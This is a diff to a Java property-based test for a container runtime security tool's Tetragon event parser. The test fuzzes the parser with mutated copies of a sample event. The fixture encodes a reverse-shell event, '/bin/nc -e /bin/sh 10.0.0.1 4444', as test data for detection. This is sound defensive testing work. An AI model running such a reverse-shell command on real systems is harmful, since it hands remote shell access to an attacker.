@@ -32,6 +32,37 @@ class SourceParsersProperties {
         }
     }
 
+    private static final String TETRAGON = "{\"process_kprobe\":{\"process\":{\"pid\":7,\"uid\":0,\"binary\":"
+            + "\"/bin/nc\",\"arguments\":\"-e /bin/sh 10.0.0.1 4444\",\"pod\":{\"container\":{\"id\":"
+            + "\"containerd://0123456789abcdef\",\"image\":{\"name\":\"alpine:3\"}}},\"cap\":{\"effective\":"
+            + "[\"CAP_SYS_ADMIN\"]}},\"parent\":{\"pid\":6,\"binary\":\"/bin/sh\"},\"function_name\":"
+            + "\"tcp_connect\",\"args\":[{\"sock_arg\":{\"saddr\":\"10.0.0.2\",\"daddr\":\"10.0.0.1\","
+            + "\"sport\":40000,\"dport\":4444}},{\"int_arg\":2},{\"file_arg\":{\"path\":\"/etc/x\"}}]},"
+            + "\"node_name\":\"n\",\"time\":\"2026-01-02T03:04:05Z\"}";
+
+    @Property(tries = 500)
+    void tetragonJson_arbitraryOrMutatedLines_failOnlyWithInvalidInput(@ForAll("tetragonLines") String line) {
+        dev.containersec.runtime.internal.source.tetragon.TetragonJsonMapper mapper =
+                new dev.containersec.runtime.internal.source.tetragon.TetragonJsonMapper();
+        try {
+            mapper.map(line);
+        } catch (InvalidInputException e) {
+            // documented
+        }
+    }
+
+    @Provide
+    Arbitrary<String> tetragonLines() {
+        Arbitrary<String> mutated = Arbitraries.integers().between(0, TETRAGON.length() - 1).flatMap(at ->
+                Arbitraries.strings().ofMaxLength(4).map(s -> TETRAGON.substring(0, at) + s
+                        + TETRAGON.substring(at + 1)));
+        Arbitrary<String> kinds = Arbitraries.of("process_exec", "process_exit", "process_kprobe",
+                "process_tracepoint", "process_lsm").flatMap(kind -> Arbitraries.of("tcp_connect", "fd_install",
+                "security_file_permission", "__x64_sys_setreuid", "sys_ptrace", "inet_csk_accept", "connect", "x")
+                .map(fn -> TETRAGON.replace("process_kprobe", kind).replace("tcp_connect", fn)));
+        return Arbitraries.oneOf(Arbitraries.strings().ofMaxLength(200), mutated, kinds);
+    }
+
     @Property(tries = 300)
     void procNetTables_neverThrow(@ForAll("netTables") String text) throws Exception {
         Method parse = Class.forName("dev.containersec.runtime.internal.source.procfs.ProcfsStream")
